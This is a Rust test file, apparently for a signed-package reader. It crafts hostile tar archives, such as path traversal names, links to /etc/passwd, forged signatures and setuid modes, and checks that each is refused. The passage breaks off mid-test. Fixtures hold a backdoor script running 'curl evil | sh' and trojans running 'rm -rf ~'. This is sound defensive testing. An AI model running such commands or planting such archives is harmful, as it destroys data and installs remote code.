//! Attacker's tests: each hostile archive below is a well-formed tar file that a naive
//! extractor (the `tar` crate's own entry iterator, `tar -x`) would accept, and that the package
//! reader must refuse with the error naming the problem. Then round trips and fuzzing.

use std::io;

use proptest::prelude::*;

use super::fuzzing::resign;
use super::signature::PackageSignature;
use super::*;
use crate::manifest::MANIFEST_FILE;

const CONTOSO: &str = "CN=Contoso Ltd, O=Contoso, L=Zurich, C=CH";
const APP: &[u8] = b"#!/bin/sh\necho hello\n";

fn manifest_text() -> String {
    format!(
        "[package]\nname = \"Contoso.Hello\"\npublisher = \"{CONTOSO}\"\nversion = \"1.0.0.0\"\n\n\
         [[application]]\nid = \"App\"\nexecutable = \"bin/app\"\n"
    )
}

fn key() -> SecretKey {
    SecretKey::from_seed(CONTOSO, [3; 32]).unwrap()
}

fn pad(out: &mut Vec<u8>) {
    out.resize(out.len().div_ceil(512) * 512, 0);
}

/// One tar entry, every field under the test's control: `size` is what the header says,
/// `data` what follows it.
fn put(out: &mut Vec<u8>, name: &[u8], kind: u8, mode: u32, size: u64, data: &[u8]) {
    let mut h = tar::Header::new_gnu();
    let gnu = h.as_gnu_mut().unwrap();
    if name.len() > 100 {
        let long = [name, b"\0"].concat();
        put(out, b"././@LongLink", b'L', 0o644, long.len() as u64, &long);
        gnu.name.copy_from_slice(&name[..100]);
    } else {
        gnu.name[..name.len()].copy_from_slice(name);
    }
    if kind == b'1' || kind == b'2' {
        gnu.linkname[..11].copy_from_slice(b"/etc/passwd");
    }
    h.set_entry_type(tar::EntryType::new(kind));
    h.set_mode(mode);
    h.set_uid(0);
    h.set_gid(0);
    h.set_mtime(0);
    h.set_size(size);
    h.set_cksum();
    out.extend_from_slice(h.as_bytes());
    out.extend_from_slice(data);
    pad(out);
}

fn file(out: &mut Vec<u8>, name: &str, mode: u32, data: &[u8]) {
    put(out, name.as_bytes(), b'0', mode, data.len() as u64, data);
}

fn end(out: &mut Vec<u8>) {
    out.extend_from_slice(&[0; 1024]);
}

/// The first three entries of a package file signed by `key`, whose block map is `map`.
fn prefix_with(map: &[u8], manifest: &[u8], key: &SecretKey) -> Vec<u8> {
    let sig = PackageSignature::sign(key, map).to_bytes();
    let mut out = Vec::new();
    file(&mut out, BLOCK_MAP_FILE, 0o644, map);
    file(&mut out, SIGNATURE_FILE, 0o644, &sig);
    file(&mut out, MANIFEST_FILE, 0o644, manifest);
    out
}

fn block_map(files: &[(&str, FileMode, &[u8])]) -> BlockMap {
    let manifest = manifest_text();
    let mut entries = vec![BlockMapEntry::of(
        MANIFEST_FILE.parse().unwrap(),
        FileMode::Regular,
        manifest.as_bytes(),
    )];
    entries.extend(files.iter().map(|(p, m, c)| BlockMapEntry::of(p.parse().unwrap(), *m, c)));
    BlockMap::new(entries, &Limits::default()).unwrap()
}

/// A correctly signed prefix whose block map lists the manifest and `files`.
fn signed(files: &[(&str, FileMode, &[u8])]) -> Vec<u8> {
    prefix_with(&block_map(files).to_bytes(), manifest_text().as_bytes(), &key())
}

type Extracted = Vec<(String, FileMode, Vec<u8>)>;

fn read_with(bytes: &[u8], limits: &Limits) -> Result<Extracted, PackageFileError> {
    let mut got = Vec::new();
    read_package(bytes, limits, |e, data| {
        let mut v = Vec::new();
        data.read_to_end(&mut v)?;
        got.push((e.path.to_string(), e.mode, v));
        Ok(())
    })?;
    Ok(got)
}

fn read_all(bytes: &[u8]) -> Result<Extracted, PackageFileError> {
    read_with(bytes, &Limits::default())
}

/// What a naive extractor sees: the `tar` crate lists every entry without complaint.
fn naive_names(bytes: &[u8]) -> Vec<String> {
    let mut a = tar::Archive::new(bytes);
    a.entries()
        .expect("a tar archive")
        .map(|e| e.expect("a valid entry").path().unwrap().to_string_lossy().into_owned())
        .collect()
}

fn good_package() -> Vec<u8> {
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    out
}

#[test]
fn a_hand_made_package_reads() {
    let bytes = good_package();
    assert_eq!(naive_names(&bytes).len(), 4);
    let got = read_all(&bytes).unwrap();
    assert_eq!(got[0].0, MANIFEST_FILE);
    assert_eq!(got[0].2, manifest_text().as_bytes());
    assert_eq!(got[1], ("bin/app".to_owned(), FileMode::Executable, APP.to_vec()));
}

#[test]
fn links_devices_fifos_and_folders_are_refused() {
    for (kind, want) in [
        (b'2', EntryKind::Symlink),
        (b'1', EntryKind::HardLink),
        (b'3', EntryKind::CharDevice),
        (b'4', EntryKind::BlockDevice),
        (b'6', EntryKind::Fifo),
        (b'5', EntryKind::Directory),
        (b'7', EntryKind::Contiguous),
        (b'S', EntryKind::Sparse),
        (b'x', EntryKind::PaxHeader),
        (b'K', EntryKind::GnuLongLink),
        (b'Z', EntryKind::Other(b'Z')),
    ] {
        // The block map lists bin/app; the archive holds something else under that name.
        let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
        put(&mut out, b"bin/app", kind, 0o755, 0, b"");
        file(&mut out, "bin/app", 0o755, APP);
        end(&mut out);
        let err = read_all(&out).unwrap_err();
        match &err {
            PackageFileError::ForbiddenEntry { path, kind } => {
                assert_eq!(path, "bin/app");
                assert_eq!(*kind, want);
            }
            other => panic!("{kind}: {other}"),
        }
        assert!(err.to_string().starts_with("bin/app is "), "{err}");
    }
}

#[test]
fn a_symlink_in_place_of_the_manifest_is_refused() {
    let map = block_map(&[]).to_bytes();
    let mut out = Vec::new();
    file(&mut out, BLOCK_MAP_FILE, 0o644, &map);
    file(&mut out, SIGNATURE_FILE, 0o644, &PackageSignature::sign(&key(), &map).to_bytes());
    put(&mut out, MANIFEST_FILE.as_bytes(), b'2', 0o644, 0, b"");
    end(&mut out);
    assert_eq!(naive_names(&out).len(), 3);
    let err = open(out.as_slice(), &Limits::default()).unwrap_err();
    assert!(
        matches!(err, PackageFileError::ForbiddenEntry { kind: EntryKind::Symlink, .. }),
        "{err}"
    );
}

#[test]
fn names_leading_outside_are_refused() {
    let names: [&[u8]; 9] = [
        b"../evil",
        b"bin/../../evil",
        b"/etc/cron.d/evil",
        b"./bin/app",
        b"bin//app",
        b"bin/app/",
        b"bin\\..\\evil",
        b"bin/\x1b[2Japp",
        b"bin/\xff",
    ];
    for name in names {
        let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
        put(&mut out, name, b'0', 0o755, APP.len() as u64, APP);
        file(&mut out, "bin/app", 0o755, APP);
        end(&mut out);
        let err = read_all(&out).unwrap_err();
        assert!(matches!(err, PackageFileError::BadPath { .. }), "{:?}: {err}", name);
    }
}

#[test]
fn a_long_name_leading_outside_is_refused() {
    // GNU long names are how a path longer than 100 bytes is written; the one they carry is
    // checked like any other.
    let long = format!("{}../../../../evil", "a/".repeat(60));
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    put(&mut out, long.as_bytes(), b'0', 0o755, APP.len() as u64, APP);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    match err {
        PackageFileError::BadPath { path, .. } => assert_eq!(path, long),
        other => panic!("{other}"),
    }
}

#[test]
fn a_long_name_reads() {
    let long = format!("{}app", "deep/".repeat(40));
    assert!(long.len() > 100);
    let mut out = signed(&[(long.as_str(), FileMode::Regular, b"x")]);
    file(&mut out, &long, 0o644, b"x");
    end(&mut out);
    assert_eq!(naive_names(&out)[3], long);
    assert_eq!(read_all(&out).unwrap()[1].0, long);
}

#[test]
fn duplicate_names_are_refused() {
    // The same file twice: a naive extractor writes both, the second winning.
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut out, "bin/app", 0o755, APP);
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::DuplicateEntry { path } if path == "bin/app"),
        "{err}"
    );
}

#[test]
fn a_second_manifest_cannot_replace_the_checked_one() {
    // Issue 10's first race, as an archive: the checked manifest first, another one later that
    // a naive extractor would write over it.
    let other = manifest_text().replace(CONTOSO, "CN=Fabrikam");
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut out, "bin/app", 0o755, APP);
    file(&mut out, MANIFEST_FILE, 0o644, other.as_bytes());
    end(&mut out);
    assert_eq!(naive_names(&out).iter().filter(|n| *n == MANIFEST_FILE).count(), 2);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::DuplicateEntry { path } if path == MANIFEST_FILE),
        "{err}"
    );
    // And a second block map or signature later on is no way around it either.
    for name in [BLOCK_MAP_FILE, SIGNATURE_FILE] {
        let mut out = signed(&[]);
        file(&mut out, name, 0o644, b"x");
        end(&mut out);
        assert!(matches!(read_all(&out), Err(PackageFileError::DuplicateEntry { .. })));
    }
}

#[test]
fn a_file_added_after_signing_is_refused() {
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut out, "bin/app", 0o755, APP);
    file(&mut out, "bin/backdoor", 0o755, b"#!/bin/sh\ncurl evil | sh\n");
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::NotInBlockMap { path } if path == "bin/backdoor"),
        "{err}"
    );
    assert!(err.to_string().contains("not in the block map"), "{err}");
}

#[test]
fn a_file_removed_after_signing_is_refused() {
    let mut out =
        signed(&[("bin/app", FileMode::Executable, APP), ("lib/x.so", FileMode::Regular, b"x")]);
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::MissingFromArchive { path } if path == "lib/x.so"),
        "{err}"
    );
    assert!(err.to_string().contains("missing from the archive"), "{err}");
}

#[test]
fn a_tampered_file_is_refused_naming_it() {
    let trojan = b"#!/bin/sh\nrm -rf ~ \n\n";
    assert_eq!(trojan.len(), APP.len());
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut out, "bin/app", 0o755, trojan);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(matches!(&err, PackageFileError::HashMismatch { path } if path == "bin/app"), "{err}");
    assert_eq!(
        err.to_string(),
        "bin/app: hash mismatch: its content is not what the block map signed"
    );
}

#[test]
fn a_tampered_manifest_is_refused_before_any_file() {
    let other = manifest_text().replace("1.0.0.0", "9.0.0.0");
    let map = block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes();
    let mut out = prefix_with(&map, other.as_bytes(), &key());
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    let err = open(out.as_slice(), &Limits::default()).unwrap_err();
    // Same length, other bytes: the hash catches it.
    assert!(
        matches!(&err, PackageFileError::HashMismatch { path } if path == MANIFEST_FILE),
        "{err}"
    );
}

#[test]
fn lying_sizes_are_refused() {
    // The header claims more bytes than the block map: refused before reading them.
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    let mut data = APP.to_vec();
    data.extend_from_slice(b"more");
    put(&mut out, b"bin/app", b'0', 0o755, data.len() as u64, &data);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::SizeMismatch { path, block_map: 21, archive: 25 } if path == "bin/app"),
        "{err}"
    );

    // The header agrees with the block map but the data runs on into what looks like the next
    // entry: the extra bytes are read as a header and refused.
    let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
    let mut data = APP.to_vec();
    data.resize(600, b'A');
    put(&mut out, b"bin/app", b'0', 0o755, APP.len() as u64, &data);
    end(&mut out);
    assert!(matches!(
        read_all(&out),
        Err(PackageFileError::BadArchive { .. } | PackageFileError::BadHeader { .. })
    ));

    // A header size of 2^60 for an unlisted name: refused without reading (or allocating) it.
    let mut out = signed(&[]);
    put(&mut out, b"big", b'0', 0o644, 1 << 60, b"");
    assert!(matches!(read_all(&out), Err(PackageFileError::NotInBlockMap { .. })));
}

#[test]
fn a_setuid_or_odd_mode_is_refused() {
    for mode in [0o4755, 0o2755, 0o777, 0o600, 0o644] {
        let mut out = signed(&[("bin/app", FileMode::Executable, APP)]);
        file(&mut out, "bin/app", mode, APP);
        end(&mut out);
        let err = read_all(&out).unwrap_err();
        assert!(
            matches!(&err, PackageFileError::ModeMismatch { path, block_map: 0o755, .. } if path == "bin/app"),
            "{mode:o}: {err}"
        );
    }
}

#[test]
fn unsigned_files_are_refused() {
    // A plain tar of a package folder.
    let mut out = Vec::new();
    file(&mut out, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::MissingBlockMap { found: Some(f) } if f == MANIFEST_FILE),
        "{err}"
    );
    // A block map and no signature.
    let map = block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes();
    let mut out = Vec::new();
    file(&mut out, BLOCK_MAP_FILE, 0o644, &map);
    file(&mut out, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(&err, PackageFileError::Unsigned { found: Some(f) } if f == MANIFEST_FILE),
        "{err}"
    );
    assert!(err.to_string().starts_with("the package file is unsigned"), "{err}");
    // Nothing at all, and an empty archive.
    assert!(matches!(read_all(b""), Err(PackageFileError::Truncated { offset: 0 })));
    assert!(matches!(read_all(&[0; 1024]), Err(PackageFileError::MissingBlockMap { found: None })));
}

#[test]
fn a_block_map_changed_after_signing_is_refused() {
    // The attacker swaps in a trojan and rewrites its block map line, keeping the signature.
    let trojan = b"#!/bin/sh\nrm -rf ~\n";
    let good = block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes();
    let forged = block_map(&[("bin/app", FileMode::Executable, trojan)]).to_bytes();
    let sig = PackageSignature::sign(&key(), &good).to_bytes();
    let mut out = Vec::new();
    file(&mut out, BLOCK_MAP_FILE, 0o644, &forged);
    file(&mut out, SIGNATURE_FILE, 0o644, &sig);
    file(&mut out, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
    file(&mut out, "bin/app", 0o755, trojan);
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    match &err {
        PackageFileError::BadSignature { key_id, publisher } => {
            assert_eq!(*key_id, key().id());
            assert_eq!(publisher, CONTOSO);
        }
        other => panic!("{other}"),
    }
}

#[test]
fn a_garbled_signature_file_is_refused() {
    let map = block_map(&[]).to_bytes();
    let good = String::from_utf8(PackageSignature::sign(&key(), &map).to_bytes()).unwrap();
    for (sig, want) in [
        (good.replace(CONTOSO, "CN=Fabrikam"), "binding"),
        ("signature = 1\n".to_owned(), "not an appipc signature file"),
        (good.replace("appipc-signature-1", "appipc-signature-0"), "format"),
        ("\u{0}\u{ff}".to_owned(), "not an appipc signature file"),
    ] {
        let mut out = Vec::new();
        file(&mut out, BLOCK_MAP_FILE, 0o644, &map);
        file(&mut out, SIGNATURE_FILE, 0o644, sig.as_bytes());
        file(&mut out, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
        end(&mut out);
        let err = read_all(&out).unwrap_err();
        assert!(matches!(err, PackageFileError::BadSignatureFile(_)), "{err}");
        assert!(err.to_string().contains(want), "{err} lacks {want}");
    }
}

#[test]
fn another_publishers_claim_verifies_but_is_not_authorized() {
    // Mallory signs a package that claims Contoso with a key of her own that also claims
    // Contoso: the file is intact, so it reads; the trust rule is what refuses it.
    let mallory = SecretKey::from_seed(CONTOSO, [66; 32]).unwrap();
    let map = block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes();
    let mut out = prefix_with(&map, manifest_text().as_bytes(), &mallory);
    file(&mut out, "bin/app", 0o755, APP);
    end(&mut out);
    let signed = open(out.as_slice(), &Limits::default()).unwrap();
    assert_eq!(signed.signer().id(), mallory.id());
    let publisher = signed.manifest().unwrap().identity.publisher;
    let trusted = [key().public_key()];
    let err = authorize_signer(signed.signer(), &publisher, &trusted).unwrap_err();
    assert!(matches!(err, PackageFileError::UntrustedKey { .. }), "{err}");
    authorize_signer(&key().public_key(), &publisher, &trusted).unwrap();

    // A Fabrikam key signing a package that claims Contoso: a publisher mismatch.
    let fabrikam = SecretKey::from_seed("CN=Fabrikam", [5; 32]).unwrap();
    let out = prefix_with(&map, manifest_text().as_bytes(), &fabrikam);
    let signed = open(out.as_slice(), &Limits::default()).unwrap();
    let err = authorize_signer(signed.signer(), &publisher, [&fabrikam.public_key()]).unwrap_err();
    assert!(
        err.to_string().contains("\"CN=Fabrikam\"") && err.to_string().contains(CONTOSO),
        "{err}"
    );
}

#[test]
fn limits_are_enforced_before_reading() {
    let mut out = signed(&[("a", FileMode::Regular, b"1"), ("b", FileMode::Regular, b"2")]);
    file(&mut out, "a", 0o644, b"1");
    file(&mut out, "b", 0o644, b"2");
    end(&mut out);
    read_all(&out).unwrap();
    let few = Limits { max_files: 2, ..Limits::default() };
    assert!(matches!(read_with(&out, &few), Err(PackageFileError::TooManyFiles { limit: 2 })));
    let small = Limits { max_total_size: 10, ..Limits::default() };
    assert!(matches!(read_with(&out, &small), Err(PackageFileError::TooLarge { limit: 10 })));

    // A block map header claiming 1 TiB: refused from the header alone.
    let mut out = Vec::new();
    put(&mut out, BLOCK_MAP_FILE.as_bytes(), b'0', 0o644, 1 << 40, b"");
    let err = read_all(&out).unwrap_err();
    assert!(
        matches!(err, PackageFileError::MetadataTooLarge { file: BLOCK_MAP_FILE, .. }),
        "{err}"
    );

    // A 1 GiB GNU long name: refused from its header.
    let mut out = Vec::new();
    put(&mut out, b"././@LongLink", b'L', 0o644, 1 << 30, b"");
    let err = read_all(&out).unwrap_err();
    assert!(matches!(err, PackageFileError::MetadataTooLarge { .. }), "{err}");

    // A 2 MiB manifest, listed so in a signed block map: refused from the block map.
    let big = vec![b'#'; 2 << 20];
    let hash = data_encoding::HEXLOWER.encode(&sha2::Sha256::digest(&big));
    let map = format!("{BLOCK_MAP_HEADER}\n{hash} 644 {} {MANIFEST_FILE}\n", big.len());
    let mut out = prefix_with(map.as_bytes(), &big, &key());
    end(&mut out);
    let err = read_all(&out).unwrap_err();
    assert!(matches!(err, PackageFileError::ManifestTooLarge { size: 2097152, .. }), "{err}");
}

use sha2::Digest;

#[test]
fn malformed_archives_are_refused() {
    let good = good_package();
    // A flipped byte in a header: checksum.
    let mut bad = good.clone();
    bad[0] ^= 1;
    assert!(matches!(read_all(&bad), Err(PackageFileError::BadHeader { offset: 0, .. })));
    // Cut short anywhere.
    for cut in [100, 512, 700, good.len() - 1024, good.len() - 1] {
        let err = read_all(&good[..cut]).unwrap_err();
        assert!(matches!(err, PackageFileError::Truncated { .. }), "{cut}: {err}");
    }
    // Data after the end.
    let mut bad = good.clone();
    bad.extend_from_slice(b"hello");
    assert!(matches!(read_all(&bad), Err(PackageFileError::BadArchive { .. })));
    // Zero padding up to a record size is fine.
    let mut padded = good.clone();
    padded.resize(good.len().div_ceil(10240) * 10240 + 10240, 0);
    read_all(&padded).unwrap();
    // But not without bound.
    let mut padded = good.clone();
    padded.resize(good.len() + 2 * 1024 * 1024, 0);
    assert!(matches!(read_all(&padded), Err(PackageFileError::BadArchive { .. })));
    // Non-zero padding inside the archive.
    let mut bad = good.clone();
    let at = 512 + block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes().len() + 1;
    bad[at] = b'!';
    assert!(matches!(read_all(&bad), Err(PackageFileError::BadArchive { .. })));
}

#[test]
fn sink_failures_and_lazy_sinks() {
    let good = good_package();
    // The sink's own error names the file.
    let err = read_package(good.as_slice(), &Limits::default(), |e, _| {
        if e.path.as_str() == "bin/app" { Err(io::Error::other("disk full")) } else { Ok(()) }
    })
    .unwrap_err();
    assert_eq!(err.to_string(), "extracting bin/app: disk full");

    // A sink that reads nothing still gets a verified package: the reader hashes the rest.
    read_package(good.as_slice(), &Limits::default(), |_, _| Ok(())).unwrap();
    let mut tampered = signed(&[("bin/app", FileMode::Executable, APP)]);
    file(&mut tampered, "bin/app", 0o755, &APP.to_ascii_uppercase());
    end(&mut tampered);
    let err = read_package(tampered.as_slice(), &Limits::default(), |_, _| Ok(())).unwrap_err();
    assert!(matches!(err, PackageFileError::HashMismatch { .. }), "{err}");

    // A truncated entry is reported as such even though the sink passes the read error on.
    let cut = &good[..good.len() - 1024 - 512 + 5];
    let err =
        read_package(cut, &Limits::default(), |_, data| io::copy(data, &mut io::sink()).map(drop))
            .unwrap_err();
    assert!(matches!(err, PackageFileError::Truncated { .. }), "{err}");
}

// ---------------------------------------------------------------------------------------------
// Writing

fn writer_with(files: &[(&str, FileMode, &[u8])]) -> PackageWriter<'static> {
    let mut w = PackageWriter::new(manifest_text());
    for (p, m, c) in files {
        w.add_bytes(p.parse().unwrap(), *m, c.to_vec());
    }
    w
}

fn write(w: PackageWriter<'_>) -> Vec<u8> {
    let mut out = Vec::new();
    w.write(&key(), &mut out).unwrap();
    out
}

#[test]
fn writing_is_deterministic_and_readable_by_tar() {
    let files: [(&str, FileMode, &[u8]); 3] = [
        ("z/last", FileMode::Regular, b"z"),
        ("bin/app", FileMode::Executable, APP),
        ("a b/c", FileMode::Regular, b""),
    ];
    let a = write(writer_with(&files));
    let mut reversed = files;
    reversed.reverse();
    let b = write(writer_with(&reversed));
    assert_eq!(a, b, "same files in another order: same bytes");
    assert_eq!(
        naive_names(&a),
        [BLOCK_MAP_FILE, SIGNATURE_FILE, MANIFEST_FILE, "a b/c", "bin/app", "z/last"]
    );
    let got = read_all(&a).unwrap();
    assert_eq!(got.len(), 4);
    assert_eq!(got[2], ("bin/app".to_owned(), FileMode::Executable, APP.to_vec()));
    // And the tar crate sees the modes we wrote, no owner, no time.
    let mut ar = tar::Archive::new(a.as_slice());
    for e in ar.entries().unwrap() {
        let e = e.unwrap();
        let h = e.header();
        assert!(matches!(h.mode().unwrap(), 0o644 | 0o755));
        assert_eq!((h.uid().unwrap(), h.gid().unwrap(), h.mtime().unwrap()), (0, 0, 0));
    }
}

#[test]
fn the_writer_refuses_what_readers_would() {
    let mut out = Vec::new();
    // The manifest names Contoso; a Fabrikam key cannot sign it.
    let fabrikam = SecretKey::from_seed("CN=Fabrikam", [5; 32]).unwrap();
    let err = writer_with(&[]).write(&fabrikam, &mut out).unwrap_err();
    assert!(matches!(err, PackageFileError::PublisherMismatch { .. }), "{err}");
    // Reserved names, duplicates, an invalid manifest.
    for name in [MANIFEST_FILE, BLOCK_MAP_FILE, SIGNATURE_FILE] {
        let err =
            writer_with(&[(name, FileMode::Regular, b"")]).write(&key(), &mut out).unwrap_err();
        assert!(matches!(err, PackageFileError::ReservedName { .. }), "{err}");
    }
    let err = writer_with(&[("a", FileMode::Regular, b"1"), ("a", FileMode::Regular, b"2")])
        .write(&key(), &mut out)
        .unwrap_err();
    assert!(err.to_string().contains("a is listed twice"), "{err}");
    let err = PackageWriter::new("[package]\n").write(&key(), &mut out).unwrap_err();
    assert!(matches!(err, PackageFileError::InvalidManifest(_)), "{err}");
    let mut w = writer_with(&[("a", FileMode::Regular, b"1")]);
    w.limits(Limits { max_files: 1, ..Limits::default() });
    assert!(matches!(w.write(&key(), &mut out), Err(PackageFileError::TooManyFiles { .. })));
}

#[test]
fn a_source_that_changes_while_packing_is_refused() {
    use std::cell::Cell;
    use std::rc::Rc;
    // Second read returns other bytes of the same length.
    let reads = Rc::new(Cell::new(0));
    let r = reads.clone();
    let mut w = writer_with(&[]);
    w.add_file("bin/app".parse().unwrap(), FileMode::Executable, 3, move || {
        r.set(r.get() + 1);
        Ok(io::Cursor::new(if r.get() == 1 { b"abc".to_vec() } else { b"abd".to_vec() }))
    });
    let err = w.write(&key(), &mut Vec::new()).unwrap_err();
    assert!(matches!(&err, PackageFileError::SourceChanged { path } if path == "bin/app"), "{err}");
    assert_eq!(reads.get(), 2);

    // Grows, shrinks, or never matched the size given.
    for (size, first, second) in
        [(3u64, &b"abc"[..], &b"abcd"[..]), (3, b"abc", b"ab"), (3, b"abcd", b"abcd")]
    {
        let n = Rc::new(Cell::new(0));
        let mut w = writer_with(&[]);
        w.add_file("f".parse().unwrap(), FileMode::Regular, size, move || {
            n.set(n.get() + 1);
            Ok(io::Cursor::new(if n.get() == 1 { first.to_vec() } else { second.to_vec() }))
        });
        let err = w.write(&key(), &mut Vec::new()).unwrap_err();
        assert!(matches!(err, PackageFileError::SourceChanged { .. }), "{err}");
    }

    // A source that reads the same twice is fine, and its open error names it.
    let mut w = writer_with(&[]);
    w.add_file("f".parse().unwrap(), FileMode::Regular, 3, || Ok(&b"abc"[..]));
    let bytes = write(w);
    assert_eq!(read_all(&bytes).unwrap()[1].2, b"abc");
    let mut w = writer_with(&[]);
    w.add_file("f".parse().unwrap(), FileMode::Regular, 3, || {
        Err::<&[u8], _>(io::Error::from(io::ErrorKind::PermissionDenied))
    });
    let err = w.write(&key(), &mut Vec::new()).unwrap_err();
    assert!(err.to_string().starts_with("reading f: "), "{err}");
}

// ---------------------------------------------------------------------------------------------
// Properties

fn component() -> impl Strategy<Value = String> {
    // Letters, digits, spaces, dots and non-ASCII, never "." or "..".
    "[a-zA-Z0-9 ._é-]{1,12}".prop_filter("not . or ..", |c| c != "." && c != "..")
}

fn package_path() -> impl Strategy<Value = String> {
    prop::collection::vec(component(), 1..4).prop_map(|c| c.join("/")).prop_filter(
        "a valid package path",
        |p| {
            p.parse::<crate::manifest::PackagePath>().is_ok()
                && p != MANIFEST_FILE
                && p != BLOCK_MAP_FILE
                && p != SIGNATURE_FILE
        },
    )
}

fn files() -> impl Strategy<Value = Vec<(String, bool, Vec<u8>)>> {
    prop::collection::btree_map(
        package_path(),
        (any::<bool>(), prop::collection::vec(any::<u8>(), 0..2000)),
        0..12,
    )
    .prop_map(|m| m.into_iter().map(|(p, (x, c))| (p, x, c)).collect::<Vec<_>>())
    .prop_filter("no path both a file and a folder", |files| {
        files.iter().all(|(a, _, _)| !files.iter().any(|(b, _, _)| b.starts_with(&format!("{a}/"))))
    })
}

proptest! {
    #[test]
    fn write_then_read_gives_the_same_files(files in files()) {
        let mut w = PackageWriter::new(manifest_text());
        for (p, x, c) in &files {
            let mode = if *x { FileMode::Executable } else { FileMode::Regular };
            w.add_bytes(p.parse().unwrap(), mode, c.clone());
        }
        let mut out = Vec::new();
        let map = w.write(&key(), &mut out).unwrap();
        let got = read_all(&out).unwrap();
        let manifest = manifest_text();
        prop_assert_eq!(&got[0].2, manifest.as_bytes());
        let mut want: Vec<_> = files
            .iter()
            .map(|(p, x, c)| (p.clone(), if *x { FileMode::Executable } else { FileMode::Regular }, c.clone()))
            .collect();
        want.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
        prop_assert_eq!(&got[1..], &want[..]);
        prop_assert_eq!(map.len(), files.len() + 1);
    }

    #[test]
    fn fuzz_read_never_panics_on_noise(bytes in prop::collection::vec(any::<u8>(), 0..4096)) {
        fuzz_read(&bytes);
    }

    #[test]
    fn fuzz_read_never_panics_on_mutated_packages(
        flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
        cut in any::<prop::sample::Index>(),
        truncate in any::<bool>(),
    ) {
        let mut bytes = good_package();
        for (at, b) in flips {
            let i = at.index(bytes.len());
            bytes[i] = b;
        }
        if truncate {
            bytes.truncate(cut.index(bytes.len()));
        }
        fuzz_read(&bytes);
        fuzz_read_resigned(&bytes);
    }
}

#[test]
fn fuzz_read_accepts_a_good_package() {
    // The fuzz target's own assertions hold on a valid input (so it is not only exercising
    // error paths).
    fuzz_read(&good_package());
    fuzz_read(&block_map(&[]).to_bytes());
    fuzz_read(key().public_key().to_file_text().as_bytes());
}

#[test]
fn resigning_replaces_only_the_signature_entry() {
    // A package the writer signed with the fuzz key is its own re-signing, byte for byte: the
    // offsets are right and the new entry is the writer's.
    let fuzz_key = SecretKey::from_seed(FUZZ_SIGNER, [0x5a; 32]).unwrap();
    let manifest = manifest_text().replace(CONTOSO, FUZZ_SIGNER);
    let mut w = PackageWriter::new(manifest);
    w.add_bytes("bin/app".parse().unwrap(), FileMode::Executable, APP);
    let long = format!("data/{}", "x".repeat(150));
    w.add_bytes(long.parse().unwrap(), FileMode::Regular, b"");
    let mut bytes = Vec::new();
    w.write(&fuzz_key, &mut bytes).unwrap();
    assert_eq!(resign(&bytes).as_deref(), Some(&bytes[..]));
    assert_eq!(fuzz_read_resigned(&bytes), Some(true));

    // Another signer's package reads re-signed, with the same files.
    let good = good_package();
    let resigned = resign(&good).unwrap();
    assert_ne!(resigned, good);
    assert_eq!(read_all(&resigned).unwrap(), read_all(&good).unwrap());
    assert_eq!(fuzz_read_resigned(&good), Some(true));

    // Nothing to re-sign: no block map, no signature entry, a truncated signature.
    assert_eq!(fuzz_read_resigned(b""), None);
    assert_eq!(fuzz_read_resigned(&block_map(&[]).to_bytes()), None);
    let mut unsigned = Vec::new();
    file(&mut unsigned, BLOCK_MAP_FILE, 0o644, &block_map(&[]).to_bytes());
    file(&mut unsigned, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
    end(&mut unsigned);
    assert_eq!(fuzz_read_resigned(&unsigned), None);
    assert_eq!(fuzz_read_resigned(&good[..512 * 3 + 10]), None);
}

#[test]
fn resigning_reaches_the_checks_behind_the_signature() {
    // The block map lists other content for bin/app than the package holds, and the
    // signature is over another block map: as it is, the signature fails; re-signed, the
    // reader gets to the file and finds that its hash differs.
    let good_map = block_map(&[("bin/app", FileMode::Executable, APP)]).to_bytes();
    let tampered_map =
        block_map(&[("bin/app", FileMode::Executable, b"#!/bin/sh\necho HELLO\n")]).to_bytes();
    let sig = PackageSignature::sign(&key(), &good_map).to_bytes();
    let mut forged = Vec::new();
    file(&mut forged, BLOCK_MAP_FILE, 0o644, &tampered_map);
    file(&mut forged, SIGNATURE_FILE, 0o644, &sig);
    file(&mut forged, MANIFEST_FILE, 0o644, manifest_text().as_bytes());
    file(&mut forged, "bin/app", 0o755, APP);
    end(&mut forged);
